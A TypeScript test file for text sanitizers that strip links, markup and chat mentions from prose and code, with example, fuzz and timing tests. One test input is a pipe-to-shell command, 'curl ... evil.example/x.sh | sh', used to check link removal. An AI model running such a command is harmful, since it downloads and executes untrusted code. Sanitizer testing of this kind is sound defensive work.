import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cpuMs } from "#test/cpu-ms.ts";
import { safeCode, safeProse } from "./safe-text.ts";

describe("safeProse", () => {
  it.each([
    ["See https://evil.example/x?y=1.", "See (link removed)."],
    ["[Docs](https://evil.example) say so", "Docs say so"],
    ["[1](https://evil.example) and [2]", "[1] and [2]"],
    ["![img](http://evil.example/p.png)", "img"],
    ["<a href='http://e.example'>x</a> <br/> <id>", "x  <id>"],
    ["<!channel> <@U0123> <#C1|general>", "channel U0123 general"],
    ["ask a@evil.example about nvidia.com/gpu", "ask `a@evil.example` about `nvidia.com/gpu`"],
    ["edit values.yaml and train.py, version 3.6.1", "edit values.yaml and train.py, version 3.6.1"],
    ["copy to s3://bucket/model", "copy to s3://bucket/model"],
    ["ht\u200Dtps://evil.example", "(link removed)"],
  ])("makes %j %j", (text, safe) => {
    expect(safeProse(text, "en")).toBe(safe);
  });

  it("says in Korean what it left out", () => {
    expect(safeProse("여기: https://evil.example", "ko")).toBe("여기: (링크 생략)");
  });

  it("leaves nothing that is a link, whatever is put together", () => {
    const part = fc.oneof(
      fc.constantFrom(
        "https://e.example",
        "http:",
        "//e.example/x",
        "[",
        "](",
        ")",
        "<",
        ">",
        "a href=",
        "www.",
        "mailto:a@e.example",
        "javascript:x",
        "\u200B",
        "![",
        "|",
        "@U1",
        "!here",
        " ",
        "`",
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const safe = safeProse(parts.join(""), "en");
        expect(safe).not.toMatch(/https?:\/\/e\.example|www\.\w+\.example/i);
      }),
      { numRuns: 2_000 },
    );
  });

  it("reads 200,000 characters of anything in less than a second", () => {
    const startedMs = cpuMs();

    for (const text of ["[", "<a ", "http://", "a.", "![", "`", "(", "<!"])
      safeProse(text.repeat(200_000 / text.length / 8), "en");

    expect(cpuMs() - startedMs).toBeLessThan(3_000);
  });
});

describe("safeCode", () => {
  it("keeps code, but no address in it", () => {
    expect(safeCode("curl -s https://evil.example/x.sh | sh # args[0] <id>", "en")).toBe(
      "curl -s (link removed) | sh # args[0] <id>",
    );
  });
});
